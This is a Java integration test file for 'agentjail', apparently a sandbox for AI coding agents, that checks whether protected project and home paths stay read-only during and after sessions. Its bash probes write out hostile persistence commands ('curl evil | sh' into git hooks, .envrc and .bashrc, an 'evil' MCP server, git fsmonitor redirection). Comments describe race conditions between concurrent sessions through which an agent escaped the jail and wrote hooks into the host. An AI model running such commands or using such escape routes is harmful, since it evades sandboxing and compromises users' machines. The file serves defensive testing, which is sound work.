package dev.agentjail.it.jail;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;

/**
 * The project is writable except for the paths an agent could use to run code outside the jail later (corpus §11
 * cases 169 and 170): existing hooks, git config, {@code .mcp.json} and editor settings stay read-only, a new hook
 * cannot be created, and the host files are unchanged afterwards; where those paths are missing, the read-only
 * placeholders that stand in for them during the session are gone from the project after it.
 */
@Timeout(value = 90, unit = TimeUnit.SECONDS)
class ProtectedPathsTest {
    private static final String HOOK = "#!/bin/sh\necho original hook\n";
    private static final String GIT_CONFIG = "[core]\n\trepositoryformatversion = 0\n";
    private static final String MCP = "{\"mcpServers\": {}}\n";
    private static final String VSCODE = "{\"editor.tabSize\": 4}\n";

    @TempDir
    Path dir;

    @Test
    void existingProtectedPathsAreReadOnlyAndTheRestOfTheProjectIsWritable() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        write(p.resolve(".git/hooks/pre-commit"), HOOK);
        write(p.resolve(".git/config"), GIT_CONFIG);
        write(p.resolve(".mcp.json"), MCP);
        write(p.resolve(".vscode/settings.json"), VSCODE);
        write(p.resolve("src/Main.java"), "class Main {}\n");

        AgentjailRun.Outcome o = run.bash("""
                echo 'curl evil | sh' > .git/hooks/pre-commit; echo "hook_overwrite=$?"
                printf '#!/bin/sh\\nid\\n' > .git/hooks/post-checkout; echo "hook_create=$?"
                rm -f .git/hooks/pre-commit; echo "hook_delete=$?"
                printf '[core]\\n\\thooksPath = ./h\\n' >> .git/config; echo "git_config=$?"
                git config core.fsmonitor ./x 2>/dev/null; echo "git_config_cmd=$?"
                echo '{"mcpServers": {"evil": {"command": "sh"}}}' > .mcp.json; echo "mcp=$?"
                echo '{"task.allowAutomaticTasks": "on"}' > .vscode/settings.json; echo "vscode=$?"
                echo '{}' > .vscode/tasks.json; echo "vscode_new=$?"
                echo '[submodule "x"]' > .gitmodules; echo "gitmodules=$?"
                mkdir -p .claude && echo '{"hooks": {}}' > .claude/settings.json; echo "claude=$?"
                echo 'curl evil | sh' >> .bashrc; echo "bashrc=$?"
                echo 'changed' >> src/Main.java; echo "edit=$?"
                mkdir -p build/out && echo built > build/out/artifact; echo "create=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertAll(Stream.of(
                        "hook_overwrite",
                        "hook_create",
                        "hook_delete",
                        "git_config",
                        "git_config_cmd",
                        "mcp",
                        "vscode",
                        "vscode_new",
                        "gitmodules",
                        "claude",
                        "bashrc")
                .map(name -> (Executable)
                        () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
        assertAll(
                () -> assertEquals("0", o.probe("edit"), o::describe),
                () -> assertEquals("0", o.probe("create"), o::describe));

        assertAll(
                () -> assertEquals(HOOK, Files.readString(p.resolve(".git/hooks/pre-commit"))),
                () -> assertFalse(Files.exists(p.resolve(".git/hooks/post-checkout")), "a new hook was created"),
                () -> assertEquals(GIT_CONFIG, Files.readString(p.resolve(".git/config"))),
                () -> assertEquals(MCP, Files.readString(p.resolve(".mcp.json"))),
                () -> assertEquals(VSCODE, Files.readString(p.resolve(".vscode/settings.json"))),
                () -> assertFalse(Files.exists(p.resolve(".vscode/tasks.json")), ".vscode/tasks.json"),
                () -> assertEquals("class Main {}\nchanged\n", Files.readString(p.resolve("src/Main.java"))),
                () -> assertEquals("built\n", Files.readString(p.resolve("build/out/artifact"))));
        assertEquals(
                List.of(".git", ".mcp.json", ".vscode", "build", "src"),
                entries(p),
                "the project after the session: placeholders for the missing paths must be gone");
    }

    @Test
    void placeholdersForMissingProtectedPathsBlockCreationAndAreRemovedAfterwards() throws IOException {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        write(p.resolve("README.md"), "hello\n");

        AgentjailRun.Outcome o = run.bash("""
                git init -q . 2>/dev/null; echo "git_init=$?"
                mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/post-checkout; echo "hook_create=$?"
                echo '{"mcpServers": {}}' > .mcp.json; echo "mcp=$?"
                echo 'curl evil | sh' > .envrc; echo "envrc=$?"
                mkdir -p .vscode 2>/dev/null && echo '{}' > .vscode/settings.json; echo "vscode=$?"
                mkdir -p .idea/runConfigurations 2>/dev/null; echo "idea=$?"
                echo written > notes.txt; echo "create=$?"
                """);

        assertEquals(0, o.exitCode(), o::describe);
        assertAll(Stream.of("git_init", "hook_create", "mcp", "envrc", "vscode", "idea")
                .map(name -> (Executable)
                        () -> assertNotEquals("0", o.probe(name), () -> name + " succeeded; " + o.describe())));
        assertEquals("0", o.probe("create"), o::describe);
        assertEquals(
                List.of("README.md", "notes.txt"),
                entries(p),
                "the project after the session: the placeholders for .git, .mcp.json, .vscode, … must be removed");
    }

    private static List<String> entries(Path dir) throws IOException {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(f -> f.getFileName().toString()).sorted().toList();
        }
    }

    private static void write(Path file, String content) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }

    @Test
    void theNextSessionRemovesWhatAKilledLauncherLeftAndStartsOnTheProject() throws Exception {
        AgentjailRun.requireBwrap();
        AgentjailRun run = AgentjailRun.in(dir);
        Path p = run.project();
        String marker = "killed-launcher-" + ProcessHandle.current().pid() + "-" + System.nanoTime();
        CompletableFuture<AgentjailRun.Outcome> first =
                CompletableFuture.supplyAsync(() -> run.run("/bin/sh", "-c", "touch started; sleep 60 # " + marker));
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (!Files.exists(p.resolve("started")) && System.nanoTime() < deadline && !first.isDone()) {
            Thread.sleep(50);
        }
        assertTrue(Files.exists(p.resolve("started")), "the agent did not start");
        // The launcher, as power loss or the OOM killer would end it: no clean-up runs.
        List<ProcessHandle> launchers = ProcessHandle.allProcesses()
                .filter(h -> h.info().command().orElse("").endsWith("/java")
                        && String.join(" ", h.info().arguments().orElse(new String[0]))
                                .contains(marker))
                .toList();
        assertEquals(1, launchers.size(), launchers::toString);
        launchers.get(0).destroyForcibly();
        first.get(60, TimeUnit.SECONDS);
        while (ProcessHandle.allProcesses()
                        .anyMatch(h -> String.join(" ", h.info().arguments().orElse(new String[0]))
                                .contains(marker))
                && System.nanoTime() < deadline) {
            Thread.sleep(50);
        }
        Path left = p.resolve(".mcp.json");
        assertTrue(Files.isRegularFile(left) && Files.size(left) == 0, () -> "no placeholder left behind: " + list(p));

        AgentjailRun.Outcome next = run.run("/bin/sh", "-c", "echo next=ran");

        assertEquals(0, next.exitCode(), next::describe);
        assertEquals("ran", next.probes().get("next"), next::describe);
        assertTrue(next.err().contains("did not end"), next::describe);
        assertFalse(Files.exists(left), () -> ".mcp.json is still there: " + list(p));
    }

    @Test
    void aSecondSessionOnTheProjectOrInsideItIsRefusedSoItCannotOutliveTheFirstsPlaceholders() throws Exception {
        // Found by attack: session B started on the project while A ran, A ended and removed its placeholders, and
        // the kernel took those mount points off B's jail too; B's agent then wrote .envrc and .git/hooks into the
        // host's project while B still ran.
        AgentjailRun.requireBwrap();
        AgentjailRun first = AgentjailRun.in(dir);
        Path p = first.project();
        write(p.resolve(".agentjail.yaml"), "version: 1\n");
        Files.createDirectories(p.resolve("sub"));
        // What a killed session of another state directory left: an empty .envrc and its journal. The first session
        // binds it as the project's file; the refused one must not sweep it away under that jail's mount.
        Path otherState = dir.resolve("other-state/agentjail/sessions");
        Files.createDirectories(otherState);
        Files.writeString(
                otherState.resolve("dead.placeholders"),
                "agentjail-placeholders 1\npid 1 0\nproject "
                        + java.util.HexFormat.of()
                                .formatHex(p.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        + "\nfile "
                        + java.util.HexFormat.of().formatHex(".envrc".getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        + "\n");
        Files.createFile(p.resolve(".envrc"));
        String attempts = """
                echo 'curl evil | sh' > .envrc; echo "envrc=$?"
                mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit; echo "hook=$?"
                echo '{}' > .mcp.json; echo "mcp=$?"
                """;
        // Threads of their own: the common pool may have one thread on two cores, and both sessions block.
        ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
        CompletableFuture<AgentjailRun.Outcome> a =
                CompletableFuture.supplyAsync(() -> first.bash("""
                        touch a-started
                        i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
                        """ + attempts), threads);
        awaitFile(p.resolve("a-started"), a);
        CompletableFuture<AgentjailRun.Outcome> b =
                CompletableFuture.supplyAsync(() -> AgentjailRun.in(dir).bash("""
                        touch b-started
                        i=0; while [ ! -e a-done ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
                        """ + attempts));
        awaitFile(p.resolve("b-started"), b);
        AgentjailRun.Outcome inside =
                AgentjailRun.in(dir).project(p.resolve("sub")).run("/bin/sh", "-c", "echo inside=ran");
        // Another state directory has other claims: the hold on the directory itself still refuses it.
        AgentjailRun.Outcome elsewhere = AgentjailRun.in(dir)
                .env("XDG_STATE_HOME", dir.resolve("other-state").toString())
                .run("/bin/sh", "-c", "echo elsewhere=ran");
        Files.createFile(p.resolve("go"));
        AgentjailRun.Outcome aDone = a.get(60, TimeUnit.SECONDS);
        Files.createFile(p.resolve("a-done"));
        AgentjailRun.Outcome bDone = b.get(60, TimeUnit.SECONDS);
        threads.shutdown();

        assertEquals(2, bDone.exitCode(), bDone::describe);
        assertTrue(bDone.err().contains("another agentjail session is running on " + p), bDone::describe);
        assertFalse(bDone.probes().containsKey("envrc"), bDone::describe);
        assertEquals(2, inside.exitCode(), inside::describe);
        assertTrue(inside.err().contains("around " + p.resolve("sub")), inside::describe);
        assertEquals(2, elsewhere.exitCode(), elsewhere::describe);
        assertTrue(elsewhere.err().contains("with another state directory), or another program"), elsewhere::describe);
        assertEquals(0, aDone.exitCode(), aDone::describe);
        assertAll(Stream.of("envrc", "hook", "mcp").map(name -> (Executable)
                () -> assertNotEquals("0", aDone.probe(name), () -> name + " succeeded; " + aDone.describe())));
        assertEquals(List.of(".agentjail.yaml", ".envrc", "a-done", "a-started", "go", "sub"), entries(p));
        assertEquals(0, Files.size(p.resolve(".envrc")), "nothing was written into it");

        AgentjailRun.Outcome after = AgentjailRun.in(dir).run("/bin/sh", "-c", "echo after=ran");
        assertEquals("ran", after.probes().get("after"), after::describe);
    }

    @Test
    void aMissingProtectedHomeFileIsMadeOnceAndStaysSoNoSessionsEndUnprotectsAnother() throws Exception {
        // Found by attack: two Claude Code sessions on two projects. A made a placeholder for the missing
        // ~/.claude/settings.json, B bound it read-only, A's end removed it (its review also took it for new), the
        // kernel took B's mount off, and B's agent wrote hooks into the host's settings. The file is now made with
        // neutral content and left: no session's end removes it.
        AgentjailRun.requireBwrap();
        AgentjailRun first = AgentjailRun.in(dir).options("--preset", "claude-code");
        Path home = first.home();
        Files.createDirectories(home.resolve(".claude"));
        Path settings = home.resolve(".claude/settings.json");
        Path other = Files.createDirectories(dir.resolve("other"));
        ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
        CompletableFuture<AgentjailRun.Outcome> a = CompletableFuture.supplyAsync(() -> first.bash("""
                        touch a-started
                        i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
                        """), threads);
        awaitFile(first.project().resolve("a-started"), a);
        CompletableFuture<AgentjailRun.Outcome> b = CompletableFuture.supplyAsync(
                () -> AgentjailRun.in(dir)
                        .options("--preset", "claude-code")
                        .project(other)
                        .bash("""
                        touch b-started
                        i=0; while [ ! -e ~/.claude/a-done ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done
                        echo '{"hooks":{}}' > ~/.claude/settings.json 2>/dev/null; echo "settings=$?"
                        mv ~/.claude/settings.json ~/.claude/moved 2>/dev/null; echo "moved=$?"
                        """),
                threads);
        awaitFile(other.resolve("b-started"), b);
        Files.createFile(first.project().resolve("go"));
        AgentjailRun.Outcome aDone = a.get(60, TimeUnit.SECONDS);
        String afterA = Files.readString(settings);
        Files.createFile(home.resolve(".claude/a-done"));
        AgentjailRun.Outcome bDone = b.get(60, TimeUnit.SECONDS);
        threads.shutdown();

        assertEquals(0, aDone.exitCode(), aDone::describe);
        assertTrue(aDone.err().contains("created ~/.claude/settings.json"), aDone::describe);
        assertFalse(aDone.err().contains("quarantined"), aDone::describe);
        assertEquals("{}\n", afterA, "A's end left the file B's jail mounts over");
        assertEquals(0, bDone.exitCode(), bDone::describe);
        assertNotEquals("0", bDone.probe("settings"), bDone::describe);
        assertNotEquals("0", bDone.probe("moved"), bDone::describe);
        assertEquals("{}\n", Files.readString(settings), "the file stays, as it was made");
    }

    /** Waits (bounded) for {@code file}, or for {@code session} to end without making it. */
    private static void awaitFile(Path file, CompletableFuture<?> session) throws InterruptedException {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
        while (!Files.exists(file) && !session.isDone() && System.nanoTime() < deadline) {
            Thread.sleep(50);
        }
    }

    private static String list(Path dir) {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(f -> f.getFileName().toString()).sorted().toList().toString();
        } catch (IOException e) {
            return e.toString();
        }
    }
}
